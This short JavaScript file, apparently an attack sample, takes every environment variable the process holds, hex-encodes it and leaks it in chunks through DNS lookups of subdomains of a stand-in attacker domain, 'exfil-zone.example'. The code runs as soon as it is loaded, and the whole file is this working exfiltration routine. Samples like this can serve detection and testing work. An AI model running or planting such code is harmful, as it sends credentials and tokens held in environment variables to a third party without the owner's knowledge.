// Evasion: sends the environment out through DNS. The serialized
// process.env is hex-encoded and cut into labels that are looked up as
// subdomains of an attacker zone.
'use strict';
const dns = require('dns').promises;

const data = Buffer.from(JSON.stringify(process.env)).toString('hex');
const chunks = data.match(/.{1,60}/g) || [];

(async () => {
  for (let i = 0; i < chunks.length; i++) {
    try { await dns.resolve4(`${i}.${chunks[i]}.t.exfil-zone.example`); } catch (_) { /* NXDOMAIN expected */ }
  }
})();
